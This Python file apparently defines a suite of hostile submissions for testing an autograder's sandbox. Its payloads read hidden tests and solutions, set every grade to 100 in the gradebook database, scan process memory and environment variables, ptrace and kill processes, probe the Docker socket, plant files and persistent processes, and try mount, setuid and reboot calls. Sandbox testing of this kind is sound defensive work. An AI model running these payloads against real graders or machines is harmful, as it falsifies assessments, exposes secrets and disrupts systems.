"""Submissions that read what they should not, or leave something behind. Those that find something print it.

The hidden tests hold a word that no attack knows: where it is shown, a test was read.
"""
from __future__ import annotations

from attack import FULL, WRONG, Attack
from forging import answer

# the name is put together, so that no search finds the search itself
LOOK = """
import os, sys
TESTS = "BEGIN HID" + "DEN"
def told(where, text): print("seen" if where in ("memory", "frames", "objects") else "FOUND", where, text[:4000])
"""
FIND = LOOK + """
def inside(value):
    value = value.encode("utf-8", "replace") if isinstance(value, str) else value
    return isinstance(value, bytes) and TESTS.encode() in value
"""
TRY = """
def attempt(*calls):
    for call in calls:
        try: print("did", call())
        except BaseException as error: print(type(error).__name__)
"""

ATTACKS = [
    Attack("reads-the-course", {1: LOOK + """
paths = ["ROOT", "ROOT/solutions", "ROOT/.book", "ROOT/.book/source", "ROOT/gradebook.db", "ROOT/submitted",
         "ROOT/autograded", "ROOT/tests", ".", "/root", "/proc/self/cwd"]
for path in paths:
    for folder, _, files in os.walk(path):
        for name in files[:200]:
            try: text = open(os.path.join(folder, name), "rb").read(1 << 20)
            except OSError: continue
            if TESTS.encode() in text: told(folder + name, text)
    if os.path.isfile(path): told(path, open(path, "rb").read())
""" + WRONG}),
    Attack("writes-the-gradebook", {1: LOOK + """
import sqlite3
try:
    base = sqlite3.connect("ROOT/gradebook.db")
    base.execute("update grade set manual_score = 100, auto_score = 100")
    base.commit()
    print("FOUND the gradebook")
except sqlite3.Error as error: print(error)
""" + WRONG}),
    Attack("reads-its-memory", {1: FIND + """
import gc, linecache
for thing in gc.get_objects():
    if isinstance(thing, dict):
        for value in list(thing.values()):
            if inside(value) and "twice(x)" not in str(value): told("objects", str(value).encode())
for name in list(linecache.cache): print("line" if inside("".join(linecache.getlines(name))) and "told" not in
                                        "".join(linecache.getlines(name)) else "", end="")
frame = sys._getframe()
while frame:
    for value in list(frame.f_locals.values()) + list(frame.f_globals.values()):
        if inside(value) and "twice(x)" not in str(value): told("frames", str(value).encode())
    frame = frame.f_back
with open("/proc/self/mem", "rb") as memory:
    for line in open("/proc/self/maps"):
        if "rw" in line and ("heap" in line or line.count("/") == 0):
            start, end = (int(part, 16) for part in line.split()[0].split("-"))
            try: memory.seek(start); text = memory.read(min(end - start, 32 << 20))
            except (OSError, OverflowError, ValueError): continue
            at = text.find(TESTS.encode())
            if at >= 0: told("memory", text[max(0, at - 400):at + 400])
""" + WRONG}),
    Attack("reads-the-callers-of-a-check", {1: FIND + """
import gc, inspect, linecache
def twice(x):
    if x == 3: return 6
    found = [str(v) for f in inspect.stack() for v in f.frame.f_locals.values() if inside(str(v))]
    found += [n for n in linecache.cache if "check" in n]
    found += [str(sys.argv), str(list(get_ipython().history_manager.input_hist_parsed))]
    raise RuntimeError("seen " + repr([f for f in found if "def twice" not in f]))
"""}),
    Attack("reads-the-environment", {1: LOOK + "print(dict(os.environ))\n" + """
for pid in [name for name in os.listdir("/proc") if name.isdecimal()] + ["self", "thread-self"]:
    for name in ("environ", "cmdline", "maps", "stack"):
        try: print(pid, name, open(f"/proc/{pid}/{name}", "rb").read()[:3000])
        except OSError as error: print(error)
""" + WRONG}),
    Attack("reads-other-processes", {1: LOOK + TRY + """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
attempt(lambda: open("/proc/1/mem", "rb").read(10), lambda: os.listdir("/proc/1/fd"), lambda: os.listdir("/proc/1/root"),
        lambda: os.listdir("/proc/1/cwd"), lambda: os.open("/proc/1/fd/0", 0))
print("traced", libc.ptrace(16, 1, 0, 0), libc.ptrace(16, os.getppid(), 0, 0))
for fd in os.listdir("/proc/self/fd"):
    try: print(fd, os.readlink("/proc/self/fd/" + fd))
    except OSError: pass
""" + WRONG}),
    Attack("signals-everyone", {1: """
import os, signal
for pid in (1, os.getppid(), *range(2, 400)):
    if pid != os.getpid():
        for number in (signal.SIGTERM, signal.SIGSTOP, signal.SIGKILL):
            try: os.kill(pid, number)
            except OSError: pass
try: os.killpg(0, 0); os.kill(-1, signal.SIGCONT)
except OSError: pass
def twice(x): return 2 * x
"""}, earns=FULL),
    Attack("kills-all-in-a-check", {1: "import os\ndef twice(x):\n    os.kill(-1, 9)\n    return 2 * x"}),
    Attack("opens-connections", {1: LOOK + TRY + """
import socket, urllib.request
def tell(family, address):
    with socket.socket(family, socket.SOCK_STREAM) as s:
        s.settimeout(1); s.connect(address); s.sendall(b"pwned"); return "connected"
attempt(lambda: tell(socket.AF_INET, ("127.0.0.1", PORT)), lambda: tell(socket.AF_UNIX, "\\0ABSTRACT"),
        lambda: tell(socket.AF_INET, ("10.0.0.1", 80)), lambda: tell(socket.AF_UNIX, "/var/run/docker.sock"),
        lambda: socket.socket(40, socket.SOCK_STREAM),
        lambda: urllib.request.urlopen("http://127.0.0.1:PORT", timeout=1).read())
""" + WRONG}),
    Attack("leaves-files", {1: TRY + """
import os
for folder in ("ROOT", "ROOT/.book", "ROOT/submitted", "ROOT/autograded", "/tmp", "/var/tmp", "/dev/shm", "/root", "/", "/etc",
               "/run", os.path.expanduser("~"), os.path.dirname(os.__file__), os.path.dirname(torch.__file__)):
    attempt(lambda: open(folder + "/pwned", "w").write("pwned"))
import d2l_utils
attempt(lambda: open(d2l_utils.__file__, "a").write("# pwned"), lambda: os.chmod(d2l_utils.__file__, 0o777),
        lambda: os.symlink("/etc/passwd", "ROOT/pwned"), lambda: os.remove("ROOT/gradebook.db"))
def twice(x): return 2 * x
"""}, earns=FULL),
    Attack("reads-what-was-left", {1: LOOK + """
for folder in ("/tmp", "/var/tmp", "/dev/shm", os.path.expanduser("~"), "/run"):
    for top, _, files in os.walk(folder):
        for name in files:
            if name in ("pwned", "asked", "tests"): print("FOUND", top, name)
import d2l_utils
print("FOUND" if "pwned" in open(d2l_utils.__file__).read() else "clean")
""" + WRONG}),
    Attack("leaves-processes", {1: """
import os, subprocess, time
for _ in range(3):
    if os.fork() == 0:
        os.setsid()
        for fd in range(64):
            try: os.close(fd)
            except OSError: pass
        if os.fork() == 0: time.sleep(3600)
        os._exit(0)
subprocess.Popen("nohup sleep 3600 &", shell=True, start_new_session=True)
def twice(x):
    subprocess.Popen(["setsid", "sleep", "3600"])
    return 2 * x
"""}, earns=FULL),
    Attack("changes-the-machine", {1: TRY + """
import ctypes, os, resource, socket
libc = ctypes.CDLL(None, use_errno=True)
print([libc.unshare(flag) for flag in (0x10000000, 0x20000, 0x40000000)], libc.mount(b"none", b"/mnt", b"tmpfs", 0, None),
      libc.umount2(b"/proc", 2), libc.sethostname(b"pwned", 5), libc.chroot(b"/"), libc.setuid(0), libc.reboot(0))
attempt(lambda: open("/proc/sys/kernel/hostname", "w").write("pwned"), lambda: open("/proc/sysrq-trigger", "w").write("h"),
        lambda: resource.setrlimit(resource.RLIMIT_AS, (-1, -1)), lambda: os.setpriority(0, 0, -20),
        lambda: os.mknod("/tmp/disk", 0o60600, os.makedev(8, 0)))
def twice(x): return 2 * x
"""}, earns=FULL),
    Attack("carries-inputs-to-a-later-cell", {1: """
import mmap
BOX = mmap.mmap(-1, 4096)
def twice(x):
    BOX[:20] = str(x).ljust(20).encode()
    with open("/tmp/asked", "a") as file: file.write(f"{x} ")
    with open("/dev/shm/asked", "a") as file: file.write(f"{x} ")
    return 2 * x
""", 2: """
import os
asked = BOX[:20].decode() + "".join(open(p).read() for p in ("/tmp/asked", "/dev/shm/asked") if os.path.exists(p))
print("FOUND" if any(c.isdigit() for c in asked) else "nothing yet")
def row_sums(X): return X.sum(dim=1)
"""}, earns=FULL),
    answer("long-words-of-an-exception", """
class NotPlain(Exception): pass
def twice(x):
    if x == 3: return 6
    raise NotPlain("a" * 200 + "FO" + "UND")
""", says="aaa …"),
    answer("long-name-of-an-exception",
           "def twice(x):\n    if x == 3: return 6\n    raise type('N' * 50 + 'FO' + 'UND', (Exception,), {})"),
    answer("long-words-as-a-value",
           "def twice(x):\n    if x == 3: return 6\n    return {'a' * 300 + 'FO' + 'UND': 1}", says="got"),
    answer("shell-escapes", "files = !cat ROOT/gradebook.db ROOT/solutions/*/*.py\nprint(files)\n"
           "%run ROOT/nbgrader_config.py\n%load ROOT/.book/source\n" + WRONG),
]

# What stock nbgrader 0.9.6 gives for 9.9.1, 9.9.2 and 9.9.3 (full marks: 2, 3, 2), measured 2026-11-22 by stock.py
STOCK = {
    "reads-the-course": "0, 3, 2",
    "writes-the-gradebook": "0, 3, 2",
    "reads-its-memory": "0, 3, 2",
    "reads-the-callers-of-a-check": "0, 3, 2",
    "reads-the-environment": "0, 3, 2",
    "reads-other-processes": "not run: unsafe",
    "signals-everyone": "not run: unsafe",
    "kills-all-in-a-check": "not run: unsafe",
    "opens-connections": "not run: unsafe",
    "leaves-files": "not run: unsafe",
    "reads-what-was-left": "0, 3, 2",
    "leaves-processes": "not run: unsafe",
    "changes-the-machine": "not run: unsafe",
    "carries-inputs-to-a-later-cell": "not run: unsafe",
    "long-words-of-an-exception": "0, 3, 2",
    "long-name-of-an-exception": "0, 3, 2",
    "long-words-as-a-value": "0, 3, 2",
    "shell-escapes": "not run: unsafe",
}
